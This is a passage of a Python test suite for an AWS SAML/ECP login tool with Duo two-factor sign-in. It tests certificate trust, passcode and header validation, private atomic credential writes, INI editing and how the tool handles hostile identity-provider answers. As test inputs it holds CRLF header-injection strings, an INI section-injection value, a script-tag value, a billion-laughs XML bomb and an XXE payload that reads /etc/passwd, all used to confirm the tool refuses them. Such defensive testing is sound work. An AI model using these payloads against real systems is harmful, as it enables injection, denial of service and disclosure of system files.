        folder = os.path.join(self.home, "certs")
        os.mkdir(folder)
        name = subprocess.check_output(["openssl", "x509", "-hash", "-noout", "-in",
                                        self.pems["ca"]]).decode().strip()
        if with_ca:
            shutil.copy(self.pems["ca"], os.path.join(folder, name + ".0"))
        else:
            self.write(os.path.join(folder, "0123abcd.0"), "not a certificate\n")
        return folder

    def login(self, **env):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        os.environ.pop("AWS_CA_BUNDLE", None)
        return self.tool(["login", "--force"], terminal=False, env=env)

    def test_the_hashed_folder_alone_when_the_bundle_lies_in_it(self):
        folder = self.hashed_folder()
        bundle = os.path.join(folder, "ca-certificates.crt")
        self.write(bundle, "")          # the folder's own bundle, empty: trust comes lazily
        os.environ.update(SSL_CERT_DIR=folder, SSL_CERT_FILE=bundle)
        import ssl
        self.assertEqual(aws_login._system_roots(ssl), (os.path.realpath(bundle),
                                                        os.path.realpath(folder)))
        self.assert_logged_in(self.login())

    def test_a_bundle_elsewhere_is_read_too(self):
        folder = self.hashed_folder(with_ca=False)
        os.environ.update(SSL_CERT_DIR=folder, SSL_CERT_FILE=self.pems["ca"])
        import ssl
        self.assertEqual(aws_login._system_roots(ssl), (os.path.realpath(self.pems["ca"]),
                                                        None))
        self.assert_logged_in(self.login())
        os.environ["SSL_CERT_FILE"] = os.path.join(folder, "none.crt")   # nor here: refused
        run = self.login()
        self.assertEqual(run.code, 8, run)
        self.assertIn("not trusted", run.stderr)

    def test_ca_bundle_is_added_to_the_system_roots_not_instead(self):
        # The IdP's certificate is trusted only by the "system" roots (SSL_CERT_FILE),
        # STS's only by the profile's ca_bundle: both must verify.
        idp = FakeIdP(cert=UNTRUSTED_CERT_PEM, key=UNTRUSTED_KEY_PEM).start()
        self.addCleanup(idp.stop)
        idp.users = self.idp.users
        del os.environ["AWS_CA_BUNDLE"]
        empty = os.path.join(self.home, "no-certs")
        os.mkdir(empty)
        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
                       password=PASSWORD, ca_bundle=self.pems["ca"])
        run = self.tool(["login"], terminal=False, env={
            "SSL_CERT_FILE": self.pems["untrusted_cert"], "SSL_CERT_DIR": empty})
        self.assert_logged_in(run)


class PasscodeHeaderTest(LoginTestCase):
    def test_a_passcode_with_a_line_break_is_refused_without_being_shown(self):
        # configparser reads an indented next line as the value's continuation.
        self.configure(username="alice", factor="passcode", password=PASSWORD)
        text = self.read(self.config_file)
        self.write(self.config_file, text + "passcode = 246810\n  SECRET-HEADER: x\n")
        run = self.tool(["login"], terminal=False)
        self.assert_nothing_written(run, 3)
        self.assertIn("passcode", run.stderr)
        for secret in ("246810", "SECRET"):
            self.assertNotIn(secret, run.stderr)
        self.assertEqual(self.idp.requests, [])

    def test_a_bad_passcode_from_the_api_or_prompt_never_reaches_http(self):
        self.configure(username="alice", factor="passcode", password=PASSWORD)
        for bad in ("246810\r\nX-Evil: 1", "24 68", "\u0662\u0664\u0666", "1\x00"):
            with self.assertRaises(aws_login.ConfigError) as caught:
                aws_login.get_credentials(passcode=bad)
            self.assertNotIn(bad.strip(), str(caught.exception))
        self.assertEqual(self.idp.requests, [])
        run = self.tool(["login"], [("Code: ", "1234 5678")])
        self.assertEqual(run.code, 3, run)
        self.assertNotIn("1234", run.stderr + run.tty.replace("Code: ", ""))
        for request in self.idp.requests:       # only the probe before the prompt went out
            self.assertEqual(request["authorization"], None)
            self.assertNotIn("X-Shibboleth-Duo-Passcode", request["headers"])

    def test_a_header_value_http_refuses_is_a_configuration_error_not_shown(self):
        server = TrickleServer()
        self.addCleanup(server.stop)
        with self.assertRaises(aws_login.ConfigError) as caught:
            aws_login._http_request(server.url, b"x", {"X-Code": "246810\nSECRET"})
        self.assertNotIn("SECRET", str(caught.exception))
        self.assertNotIn("246810", str(caught.exception))
        self.assertFalse(caught.exception.transient)


class DuoDeviceTest(LoginTestCase):
    """duo_device: the phone Duo's non-browser flow pushes to, sent as
    X-Shibboleth-Duo-Device with the factor (never on a session reuse)."""

    DEVICE_HEADER = "X-Shibboleth-Duo-Device"

    def password_requests(self):
        return [r for r in self.idp.requests if r["authorization"] is not None]

    def test_the_device_goes_out_with_the_factor(self):
        self.idp.require_factor = {"push"}
        self.configure(username="alice", factor="push", password=PASSWORD, duo_device="phone2")
        self.assert_logged_in(self.tool(["login"], terminal=False))
        [request] = self.password_requests()
        self.assertEqual(request["headers"].get(self.DEVICE_HEADER), "phone2")
        for name in DUO_HEADERS_MISSPELLED[:1] + DUO_HEADERS[:1]:
            self.assertEqual(request["headers"].get(name), "push")
        # the saved IdP session is offered without any Duo header
        self.idp.requests[:] = []
        self.assertEqual(self.tool(["login", "--force"], terminal=False).code, 0)
        self.assertEqual(self.password_requests(), [])
        for request in self.idp.requests:
            self.assertNotIn(self.DEVICE_HEADER, request["headers"])

    def test_no_device_header_unless_set_or_with_factor_off(self):
        for options in ({"factor": "push"}, {"factor": "off", "duo_device": "phone2"}):
            self.idp.requests[:] = []
            self.configure(username="alice", password=PASSWORD, **options)
            self.assertEqual(self.tool(["login", "--force"], terminal=False).code, 0)
            [request] = self.password_requests()
            self.assertNotIn(self.DEVICE_HEADER, request["headers"], options)
            self.idp.expire_sessions()

    def test_configure_takes_it_as_a_flag_and_checks_it(self):
        run = self.tool(["configure", "--ecp-endpoint-url", self.idp.url,
                         "--duo-device", "DPFZRS9FB0D46QFTM891"], terminal=False)
        self.assertEqual(run.code, 0, run)
        self.assertEqual(aws_login.read_profile("default").duo_device, "DPFZRS9FB0D46QFTM891")
        for bad in ("phone 2", "phone2\r\nX-Evil: 1"):
            run = self.tool(["configure", "--duo-device", bad], terminal=False)
            self.assertEqual(run.code, 3, run)
            self.assertIn("duo_device", run.stderr)
        self.assertEqual(aws_login.read_profile("default").duo_device, "DPFZRS9FB0D46QFTM891")

    def test_the_plugin_offers_it(self):
        fake = type(sys)("awscli.customizations.commands")
        fake.BasicCommand = type("BasicCommand", (), {"__init__": lambda self, s: None})
        for name, module in (("awscli", type(sys)("awscli")),
                             ("awscli.customizations", type(sys)("awscli.customizations")),
                             ("awscli.customizations.commands", fake)):
            sys.modules[name] = module
            self.addCleanup(sys.modules.pop, name)
        table = {}
        aws_login._awscli_subcommands(table, session="s")
        offered = dict((a["name"], a["help_text"]) for a in table["configure"].ARG_TABLE)
        self.assertIn("X-Shibboleth-Duo-Device", offered["duo-device"])


# ---------------------------------------------------------------------------
# Files: atomic, locked, private writes
# ---------------------------------------------------------------------------

class SharedFilesTest(LoginTestCase):
    WRITER = ("import sys, time; sys.path.insert(0, %r); import aws_login\n"
              "name = sys.argv[1]\n"
              "c = aws_login.Credentials('ASIA' + name, 's', 't', "
              "aws_login._parse_timestamp('2100-01-01T00:00:00Z'))\n"
              "for i in range(int(sys.argv[2])):\n"
              "    aws_login._FileStore(name).write(c, %r)\n"
              "    aws_login._FileStore(name).remove()\n"
              "aws_login._FileStore(name).write(c, %r)\n" % (HERE, ADMIN, ADMIN))

    @slow
    def test_twenty_writers_and_a_refresher_lose_nothing(self):
        before = ("# keep this comment\r\n[keep]\r\naws_access_key_id = AKIAKEEP\r\n"
                  "aws_secret_access_key = k\r\nregion = a\r\nregion = b\r\n")
        self.write(self.credentials_file, before)
        self.sts.clock = lambda: time.time() - 3600 + 6
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
        self.assertEqual(self.tool(["login"], terminal=False).code, 0)
        stop, bad = threading.Event(), []

        def reader():
            while not stop.is_set():
                text = self.read(self.credentials_file)
                try:
                    import configparser     # lenient on the kept duplicate keys, not on sections
                    configparser.RawConfigParser(strict=False).read_string(text)
                    headers = re.findall(r"(?m)^\[.*\]", text)
                    assert len(headers) == len(set(headers)), "a section twice"
                    assert text.startswith(before), "the other bytes changed"
                except Exception as e:
                    bad.append("%s: %r" % (e, text[:200]))
        thread = threading.Thread(target=reader)
        thread.start()
        procs = [subprocess.Popen([sys.executable, "-c", self.WRITER, "w%02d" % i, "10"])
                 for i in range(20)]
        codes = [p.wait() for p in procs]
        renewed = _wait_for(lambda: len(self.sts.issued) >= 2 and self.credentials()[
            "aws_access_key_id"] == self.sts.issued[-1]["AccessKeyId"], 15)
        stop.set()
        thread.join()
        self.assertEqual(codes, [0] * 20)
        self.assertEqual(bad, [])
        for i in range(20):
            self.assertEqual(self.credentials("w%02d" % i)["aws_access_key_id"], "ASIAw%02d" % i)
        self.assertTrue(renewed, "the refresher did not renew meanwhile")

    @slow
    def test_sigkill_mid_write_never_tears_the_file(self):
        big = "".join("[s%03d]\naws_access_key_id = AKIA%03d\naws_secret_access_key = %s\n\n"
                      % (i, i, "k" * 200) for i in range(300))
        self.write(self.credentials_file, big)
        loop = ("import sys; sys.path.insert(0, %r); import aws_login\n"
                "c = aws_login.Credentials('ASIA', 's' * 5000, 't' * 5000, "
                "aws_login._parse_timestamp('2100-01-01T00:00:00Z'))\n"
                "while True:\n"
                "    aws_login._FileStore('p').write(c, %r)\n"
                "    aws_login._FileStore('p').remove()\n" % (HERE, ADMIN))
        rng = random.Random(7)
        for _ in range(15):
            proc = subprocess.Popen([sys.executable, "-c", loop])
            time.sleep(0.15 + rng.random() * 0.3)
            proc.kill()
            proc.wait()
            text = self.read(self.credentials_file)
            self.assertTrue(text.startswith(big), "torn or damaged")
            aws_login._parse_ini(text, "c", "\x00")
        leftovers = [n for n in os.listdir(os.path.dirname(self.credentials_file))
                     if n != "credentials"]
        for name in leftovers:      # a killed writer's temp file: private, then swept
            self.assertEqual(os.stat(os.path.join(os.path.dirname(self.credentials_file),
                                                  name)).st_mode & 0o777, 0o600)

    def test_file_shapes_are_kept(self):
        shapes = ["[a]\r\nk = v\r\n", "# only comments\n; and more\n",
                  "[x]\nk = 1\nk = 2\n\n[default]\naws_access_key_id = A\n",
                  "[a]\nk = v", "\n\n[a]\n\tk = v\n\n\n"]
        for shape in shapes:
            self.write(self.credentials_file, shape)
            aws_login._FileStore("p").write(_fake_credentials(), ADMIN)
            text = self.read(self.credentials_file)
            self.assertIn(shape.rstrip("\r\n"), text)
            aws_login._FileStore("p").remove()
            self.assertEqual(self.read(self.credentials_file), shape, repr(shape))

    def test_modes_whatever_the_umask(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
        run = self.tool(["login"], terminal=False, argv_prefix=[
            "sh", "-c", 'umask 000; exec "$0" "$@"', sys.executable, SCRIPT])
        self.assert_logged_in(run)
        self.tool(["configure", "--username", "alice"], terminal=False, argv_prefix=[
            "sh", "-c", 'umask 000; exec "$0" "$@"', sys.executable, SCRIPT])
        for top in (os.path.join(self.home, ".aws-login"), os.path.dirname(self.credentials_file)):
            for directory, dirs, files in os.walk(top):
                if directory.startswith(os.path.join(self.home, ".aws-login")):
                    self.assertEqual(os.stat(directory).st_mode & 0o777, 0o700, directory)
                for name in files:
                    path = os.path.join(directory, name)
                    self.assertEqual(os.stat(path).st_mode & 0o077, 0, path)

    @unittest.skipUnless(os.getuid() == 0, "needs root to make a file another user's")
    def test_another_users_files_are_refused(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.write(self.credentials_file, "[x]\nk = v\n")
        os.chown(self.credentials_file, 4242, 4242)
        run = self.tool(["login"], terminal=False)
        self.assertEqual(run.code, 9, run)
        self.assertIn("belongs to another user", run.stderr)
        self.assertEqual(self.read(self.credentials_file), "[x]\nk = v\n")
        os.chown(self.credentials_file, 0, 0)
        cache = os.path.join(self.home, ".aws-login", "cache")
        os.makedirs(cache, exist_ok=True)       # login's lock lives there
        os.chown(cache, 4242, 4242)
        run = self.tool(["configure", "--credential-process"], terminal=False)
        self.assertEqual(run.code, 0, run)
        run = self.tool(["credential-process"], terminal=False)
        self.assertEqual((run.code, run.stdout), (9, ""), run)

    @unittest.skipUnless(os.getuid() == 0, "needs root to make a folder another user's")
    def test_a_folder_that_another_user_owns_is_refused(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        folder = os.path.dirname(self.credentials_file)
        os.makedirs(folder, 0o755)
        os.chmod(folder, 0o755)
        os.chown(folder, 4242, 4242)
        run = self.tool(["login"], terminal=False)
        self.assertEqual((run.code, run.stdout), (9, ""), run)
        self.assertIn("belongs to another user", run.stderr)
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run.stderr)
        self.assertEqual(os.listdir(folder), [])
        self.assertEqual(os.stat(folder).st_mode & 0o777, 0o755)   # theirs: not even chmod
        os.chown(folder, os.getuid(), os.getgid())
        logs = os.path.join(self.home, ".aws-login", "log")       # the refresher's log
        os.makedirs(logs, 0o755)
        os.chmod(logs, 0o755)
        os.chown(logs, 4242, 4242)
        self.configure(refresh="true")
        run = self.tool(["login"], terminal=False)
        self.assertEqual((run.code, run.stdout), (9, ""), run)
        self.assertIn("%s belongs to another user" % logs, run.stderr)
        self.assertEqual(os.listdir(logs), [])
        self.assertEqual(os.stat(logs).st_mode & 0o777, 0o755)

    def test_a_folder_that_cannot_be_made_is_a_clean_error(self):
        blocker = os.path.join(self.home, "a-file")
        self.write(blocker, "")
        with self.assertRaises(aws_login.CredentialsFileError) as caught:
            aws_login._private_dir(os.path.join(blocker, "aws"))  # a file in the way
        self.assertIn("cannot create %s" % os.path.join(blocker, "aws"), str(caught.exception))

    def test_a_killed_writers_temp_files_are_removed_but_a_live_ones_kept(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        folder = os.path.dirname(self.credentials_file)
        os.makedirs(folder)
        stale = os.path.join(folder, ".credentials.dead.tmp")
        young = os.path.join(folder, ".credentials.live.tmp")
        other = os.path.join(folder, ".config.dead.tmp")
        for path in (stale, young, other):
            self.write(path, "aws_secret_access_key = leaked\n")
        for path in (stale, other):
            os.utime(path, (time.time() - 120, time.time() - 120))
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.assertFalse(os.path.exists(stale))
        self.assertTrue(os.path.exists(young))      # a writer may still be busy with it
        self.assertTrue(os.path.exists(other))      # another file's


class AtomicWriteTest(HomeTestCase):
    """_atomic_write on the real file system; os.fsync is watched, not replaced."""

    def watch_fsync(self, path):
        """What each fsync saw: (a folder?, bytes of the file synced, ``path``'s text)."""
        seen, real = [], os.fsync

        def fsync(fd):
            st = os.fstat(fd)
            seen.append((stat.S_ISDIR(st.st_mode), None if stat.S_ISDIR(st.st_mode)
                         else st.st_size, self.read(path)))
            return real(fd)
        os.fsync = fsync
        self.addCleanup(setattr, os, "fsync", real)
        return seen

    def test_the_new_text_is_on_disk_before_it_replaces_the_old_and_the_folder_after(self):
        path = os.path.join(self.home, "file")
        self.write(path, "old")
        seen = self.watch_fsync(path)
        open_before = sorted(os.listdir("/proc/self/fd"))
        aws_login._atomic_write(path, "new text")
        self.assertEqual(sorted(os.listdir("/proc/self/fd")), open_before)     # none leaked
        self.assertEqual(seen, [(False, 8, "old"), (True, None, "new text")])
        self.assertEqual(self.read(path), "new text")
        self.assertEqual(os.listdir(self.home), ["file"])

    def test_the_mode_is_the_one_asked_whatever_the_umask(self):
        old = os.umask(0)
        self.addCleanup(os.umask, old)
        for mode in (0o600, 0o644):
            path = os.path.join(self.home, "file-%o" % mode)
            aws_login._atomic_write(path, b"x", mode)
            self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), mode)
        aws_login._atomic_write(path, "y")
        self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o600)

    def test_a_failed_write_keeps_the_old_file_and_leaves_no_temp_file(self):
        path = os.path.join(self.home, "file")
        self.write(path, "old")
        self.assertRaises(AttributeError, aws_login._atomic_write, path, 12345)
        self.assertEqual(self.read(path), "old")
        self.assertEqual(os.listdir(self.home), ["file"])


# ---------------------------------------------------------------------------
# INI text editing (pure)
# ---------------------------------------------------------------------------

class IniTest(unittest.TestCase):
    def test_replace_keeps_every_other_byte(self):
        text = ("# my keys\n[default]\naws_access_key_id=AKIAOLD\n\n; note\n"
                "[p]\n aws_access_key_id = old \naws_session_token=x\n# trailing comment\n\n"
                "[other]\nk   =   v\n")
        new = aws_login._ini_replace_section(text, "p", VALUES)
        self.assertEqual(new, "# my keys\n[default]\naws_access_key_id=AKIAOLD\n\n; note\n"
                         "[p]\naws_access_key_id = ASIANEW\naws_secret_access_key = sek\n"
                         "aws_session_token = tok\n# trailing comment\n\n[other]\nk   =   v\n")

    def test_append_then_remove_gives_back_the_original(self):
        for text in ("", "[a]\nx = 1\n", "[a]\nx = 1\n\n\n", "# only a comment\n", "[a]\nx = 1",
                     "[a]\r\nx = 1\r\n", "[default]\nk = v\n"):
            added = aws_login._ini_replace_section(text, "p", VALUES)
            self.assertIn("[p]", added)
            self.assertEqual(aws_login._ini_remove_section(added, "p"), text, repr(text))

    def test_crlf_files_stay_crlf(self):
        text = "[a]\r\nx = 1\r\n\r\n[p]\r\nold = 1\r\n"
        new = aws_login._ini_replace_section(text, "p", VALUES)
        self.assertNotIn("\n", new.replace("\r\n", ""))
        self.assertTrue(new.startswith("[a]\r\nx = 1\r\n\r\n[p]\r\naws_access_key_id"))

    def test_missing_final_newline_stays_missing(self):
        new = aws_login._ini_replace_section("[a]\nx = 1\n\n[p]\nold = 1", "p", VALUES)
        self.assertTrue(new.endswith("aws_session_token = tok"))
        self.assertEqual(aws_login._ini_replace_section("[p]\nold = 1\n\n[a]\nx = 1", "p",
                                                        VALUES)[-9:], "[a]\nx = 1")

    def test_duplicate_sections_collapse_into_one(self):
        text = "[p]\na = 1\n\n[q]\nb = 2\n\n[p]\nc = 3\n"
        new = aws_login._ini_replace_section(text, "p", VALUES)
        self.assertEqual(new.count("[p]"), 1)
        self.assertIn("[q]\nb = 2\n", new)
        self.assertEqual(aws_login._ini_remove_section(text, "p"), "[q]\nb = 2\n")

    def test_section_names_match_exactly(self):
        text = "[profile p]\na = 1\n[pp]\nb = 2\n"
        self.assertEqual(aws_login._ini_remove_section(text, "p"), text)

    def test_set_options_updates_in_place_and_keeps_comments(self):
        text = ("[default]\n# my IdP\necp_endpoint_url = https://old/\nfactor: push\n"
                "username = a\n  continued\nother = kept\n\n[x]\ny = 1\n")
        new = aws_login._ini_set_options(text, "default", {
            "ecp_endpoint_url": "https://new/", "username": None, "role_arn": "arn:x"})
        self.assertEqual(new, "[default]\n# my IdP\necp_endpoint_url = https://new/\n"
                         "factor: push\nother = kept\nrole_arn = arn:x\n\n[x]\ny = 1\n")
        self.assertEqual(aws_login._ini_set_options("", "n", {"a": "1", "b": None}),
                         "[n]\na = 1\n")

    def test_values_with_line_breaks_are_refused(self):
        self.assertRaises(aws_login.CredentialsFileError, aws_login._ini_replace_section,
                          "", "p", [("k", "a\n[evil]")])

    def test_indented_header_and_bom_are_sections_as_configparser_reads_them(self):
        text = "\ufeff[a]\nx = 1\n  [p]\nold = 1\n"
        new = aws_login._ini_replace_section(text, "p", VALUES)
        self.assertEqual(new.count("[p]"), 1)
        self.assertTrue(new.startswith("\ufeff[a]\nx = 1\n[p]\n"))
        parser = aws_login._parse_ini(new, "t", "\x00")
        self.assertEqual(parser.get("p", "aws_session_token"), "tok")

    def test_only_newline_ends_a_line_as_configparser_reads_it(self):
        # A value holding U+2028 (or \\x0c, \\x1c, \\x85) is one line for configparser;
        # cut at it, "[two]" inside [one]'s token looked like a section header.
        for sep in ("\u2028", "\x0c", "\x1c", "\x85", "\x0b"):
            text = "[one]\naws_session_token = tok%s[two]\nx = 1\n" % sep
            new = aws_login._ini_replace_section(text, "two", VALUES)
            self.assertTrue(new.startswith(text), repr(new))
            parser = aws_login._parse_ini(new, "t", "\x00")
            self.assertEqual(parser.get("one", "aws_session_token"), "tok%s[two]" % sep)
            self.assertEqual(parser.get("one", "x"), "1")
            self.assertEqual(parser.get("two", "aws_session_token"), "tok")
            self.assertEqual(aws_login._ini_remove_section(new, "two"), text)
            self.assertEqual(aws_login._ini_remove_section(text, "two"), text)
            options = aws_login._ini_set_options(text, "two", {"k": "v"})
            self.assertTrue(options.startswith(text), repr(options))
            self.assertEqual(aws_login._ini_set_options(text, "one", {"x": "2"}),
                             text.replace("x = 1", "x = 2"))

    def test_values_with_line_breaks_or_controls_are_refused(self):
        for bad in ("a\nb", "a\rb", "a\x0cb", "a\u2028b", "a\u2029b", "a\x85b", "a\x1bb",
                    "a\x00b", "a\x7fb", "a\tb"):
            with self.assertRaises(aws_login.CredentialsFileError, msg=repr(bad)):
                aws_login._render_section("p", [("k", bad)])
            with self.assertRaises(aws_login.ConfigError, msg=repr(bad)):
                aws_login._ini_set_options("", "p", {"k": bad})
        self.assertIn("k = caf\u00e9 \u2014 ok", aws_login._render_section("p", [("k", "caf\u00e9 \u2014 ok")]))


# ---------------------------------------------------------------------------
# ECP (client -> IdP)
# ---------------------------------------------------------------------------

class AuthnRequestTest(unittest.TestCase):
    def test_envelope_matches_the_ecp_profile(self):
        import xml.etree.ElementTree as ET
        body = aws_login._build_authn_request("https://signin.aws.amazon.com/saml", "_abc",
                                              "2026-11-27T10:00:00Z")
        root = ET.fromstring(body)
        self.assertEqual(root.tag, "{http://schemas.xmlsoap.org/soap/envelope/}Envelope")
        req = root.find("{http://schemas.xmlsoap.org/soap/envelope/}Body/"
                        "{urn:oasis:names:tc:SAML:2.0:protocol}AuthnRequest")
        self.assertEqual(req.get("AssertionConsumerServiceURL"),
                         "https://signin.aws.amazon.com/saml")
        self.assertEqual(req.get("ProtocolBinding"),
                         "urn:oasis:names:tc:SAML:2.0:bindings:PAOS")
        self.assertEqual((req.get("ID"), req.get("Version"), req.get("IssueInstant")),
                         ("_abc", "2.0", "2026-11-27T10:00:00Z"))
        self.assertEqual(req.findtext("{urn:oasis:names:tc:SAML:2.0:assertion}Issuer"),
                         "urn:amazon:webservices")

    def test_duo_headers_both_spellings_or_the_profiles_own(self):
        self.assertEqual(aws_login._duo_headers("passcode", "123"), {
            "X-Shibboleth-Duo-Factor": "passcode", "X-Shiboleth-Duo-Factor": "passcode",
            "X-Shibboleth-Duo-Passcode": "123", "X-Shiboleth-Duo-Passcode": "123"})
        self.assertEqual(aws_login._duo_headers("push", None, "X-F", "X-P"), {"X-F": "push"})

    def test_basic_authorization_is_utf8(self):
        self.assertEqual(aws_login._basic_authorization("jos\u00e9", "p\u00e4ss:word"),
                         "Basic " + base64.b64encode("jos\u00e9:p\u00e4ss:word".encode()).decode())


class EcpWireTest(LoginTestCase):
    def test_bytes_sent_to_sts_are_the_idps_response_plus_inherited_namespaces(self):
        for style in ("odd", "plain"):
            self.idp.prefix_style = style
            self.configure(username="alice", factor="auto", password=PASSWORD)
            self.assert_logged_in(self.tool(["login"], terminal=False))
            sent = base64.b64decode(self.sts.requests[-1]["form"]["SAMLAssertion"])
            original = self.idp.last_response_bytes
            self.assertIsNone(response_bytes_problem(sent, original,
                                                     self.idp.last_inherited_ns), style)
            # exactly: the original start tag name, our declarations, the rest untouched
            head = original.split(b" ", 1)[0].split(b"\t", 1)[0].split(b"\n", 1)[0]
            self.assertTrue(sent.startswith(head))
            self.assertTrue(sent.endswith(original[len(head):]))
            added = sent[len(head):len(sent) - len(original) + len(head)].decode()
            expected = "".join(' xmlns:%s="%s"' % kv for kv in sorted(
                self.idp.last_inherited_ns.items()))
            self.assertEqual(added, expected)
            aws_login.logout("default")

    def test_duration_configured_or_from_the_assertion(self):
        self.configure(username="alice", factor="auto", password=PASSWORD, duration="7200")
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.assertEqual(self.sts.requests[-1]["form"]["DurationSeconds"], "7200")
        self.idp.users["alice"]["session_duration"] = 1800
        self.configure(username="alice", factor="auto", password=PASSWORD, duration=None)
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.assertEqual(self.sts.requests[-1]["form"]["DurationSeconds"], "1800")

    def test_moto_style_microsecond_expiration(self):
        self.sts.microseconds = True
        self.configure(username="alice", factor="auto", password=PASSWORD)
        self.assert_logged_in(self.tool(["login"], terminal=False))
        self.assertRegex(self.credentials()["aws_login_expiration"],
                         r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")

    def test_plain_http_idp_on_loopback_is_allowed(self):
        idp = FakeIdP(tls=False).start()
        self.addCleanup(idp.stop)
        idp.users = self.idp.users
        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
                       password=PASSWORD)
        self.assert_logged_in(self.tool(["login"], terminal=False))


# ---------------------------------------------------------------------------
# SAML (IdP -> client)
# ---------------------------------------------------------------------------

class RoleTest(unittest.TestCase):
    ROLE = "arn:aws:iam::123456789012:role/Admin"
    IDP = "arn:aws:iam::123456789012:saml-provider/IdP"

    def test_either_order_and_spaces(self):
        for value in (self.ROLE + "," + self.IDP, self.IDP + "," + self.ROLE,
                      " %s , %s " % (self.ROLE, self.IDP)):
            role = aws_login._parse_role_value(value)
            self.assertEqual((role.arn, role.principal_arn), (self.ROLE, self.IDP))
            self.assertEqual((role.account, role.name, role.partition),
                             ("123456789012", "Admin", "aws"))

    def test_partitions_and_paths(self):
        role = aws_login._parse_role_value(
            "arn:aws-us-gov:iam::210987654321:role/team/Admin,"
            "arn:aws-us-gov:iam::210987654321:saml-provider/Gov")
        self.assertEqual((role.partition, role.name), ("aws-us-gov", "team/Admin"))
        self.assertIsNotNone(aws_login._parse_role_value(
            "arn:aws-cn:iam::210987654321:saml-provider/C,arn:aws-cn:iam::210987654321:role/R"))

    def test_garbage_is_none(self):
        for value in ("", "garbage", self.ROLE, self.ROLE + "," + self.ROLE,
                      self.ROLE + "," + self.IDP + ",extra",
                      self.ROLE + ",arn:aws-cn:iam::123456789012:saml-provider/IdP",
                      self.ROLE + ",arn:aws:iam::999999999999:saml-provider/IdP",
                      "<script>,alert(1)"):
            self.assertIsNone(aws_login._parse_role_value(value), value)

    def test_menu_is_grouped_by_account_in_first_seen_order(self):
        roles = [aws_login.Role("arn:aws:iam::978517677611:role/Admin", "p1"),
                 aws_login.Role("arn:aws:iam::520135271718:role/ReadOnlyUser", "p2"),
                 aws_login.Role("arn:aws:iam::978517677611:role/team/Dev", "p1"),
                 aws_login.Role("arn:aws:iam::520135271718:role/S3Admin", "p2")]
        lines, ordered = aws_login._role_menu(roles)
        self.assertEqual(lines, [
            "Please choose the role you would like to assume:",
            "    Account: 978517677611",
            "        [ 0 ]: Admin",
            "        [ 1 ]: team/Dev",
            "    Account: 520135271718",
            "        [ 2 ]: ReadOnlyUser",
            "        [ 3 ]: S3Admin"])
        self.assertEqual([r.name for r in ordered], ["Admin", "team/Dev", "ReadOnlyUser",
                                                      "S3Admin"])

    def test_choice_by_arn_single_or_none(self):
        one = [aws_login.Role(self.ROLE, self.IDP)]
        self.assertEqual(aws_login._choose_role(one), one[0])
        self.assertEqual(aws_login._choose_role(one, self.ROLE), one[0])
        with self.assertRaisesRegex(aws_login.RoleError, "does not offer"):
            aws_login._choose_role(one, "arn:aws:iam::123456789012:role/Other")
        with self.assertRaisesRegex(aws_login.RoleError, "no AWS roles"):
            aws_login._choose_role([])


class EcpAnswerTest(unittest.TestCase):
    """The Response handed on to STS is the IdP's bytes, with their declaration."""

    def test_declared_encoding_travels_with_the_response(self):
        envelope = build_success_envelope("_r", "https://signin.aws.amazon.com/saml",
                                          [ADMIN + "," + PROVIDER_A], prefix_style="plain")[0]
        envelope = re.sub(br"^<\?xml[^>]*\?>\s*", b"", envelope)
        latin = b'<?xml version="1.0" encoding="ISO-8859-1"?>\n' + envelope

        def extracted(body):
            return aws_login._parse_ecp_answer(aws_login._HttpAnswer(
                200, {"Content-Type": "text/xml"}, body, "https://idp/ecp"),
                AWS_ACS_URLS[0]).response_xml
        self.assertTrue(extracted(latin).startswith(
            b'<?xml version="1.0" encoding="ISO-8859-1"?><samlp:Response'))
        self.assertTrue(extracted(envelope).startswith(b"<samlp:Response"))


def _envelope_answer(idp, mutate, roles=(ADMIN + "," + PROVIDER_A,), **kw):
    """An IdP override: a real success envelope for the request, then ``mutate``d."""
    def answer(handler):
        request_id, acs = idp._parse_authn_request(handler.body)
        envelope = build_success_envelope(request_id, acs, list(roles), **kw)[0]
        return (200, {"Content-Type": "text/xml"}, mutate(envelope))
    return answer


def _utf16(text):
    return ('<?xml version="1.0" encoding="UTF-16"?>\n' + text).encode("utf-16")


class HostileIdPTest(LoginTestCase):
    """Each broken or hostile IdP answer: one line, its exit code, no traceback,
    nothing written, bounded time."""

    def cases(self):
        xml = {"Content-Type": "text/xml"}
        soap = (b"<S:Envelope xmlns:S='http://schemas.xmlsoap.org/soap/envelope/'>"
                b"<S:Body>%s</S:Body></S:Envelope>")
        return [
            ("HTML login page", (200, {"Content-Type": "text/html"},
                                 b"<!DOCTYPE html><html><form>login</form></html>"), 4,
             "HTML page"),
            ("empty body", (200, xml, b""), 5, "empty answer"),
            ("truncated XML", _envelope_answer(self.idp, lambda e: e[:len(e) // 2]), 5,
             "not well-formed"),
            ("invalid UTF-8", (200, xml, soap % b"<a>\xc3\x28\xff</a>"), 5, "not well-formed"),
            ("billion laughs", (200, xml, b'<?xml version="1.0"?><!DOCTYPE lolz ['
                                b'<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;">'
                                b'<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;">]>'
                                b'<lolz>&lol2;</lolz>'), 5, "DTD"),
            ("external entity", (200, xml, b'<!DOCTYPE r [<!ENTITY x SYSTEM '
                                 b'"file:///etc/passwd">]><r>&x;</r>'), 5, "DTD"),
            ("DTD in UTF-16", (200, xml, _utf16('<!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>')),
             5, "DTD"),
            ("elements 1,000 deep", _envelope_answer(self.idp, lambda e: e.replace(
                b"<S:Body", b"<S:x>" * 1000 + b"</S:x>" * 1000 + b"<S:Body", 1)), 5,
             "nests elements more than 100 deep"),
            ("1,000 namespaces", _envelope_answer(self.idp, lambda e: e.replace(
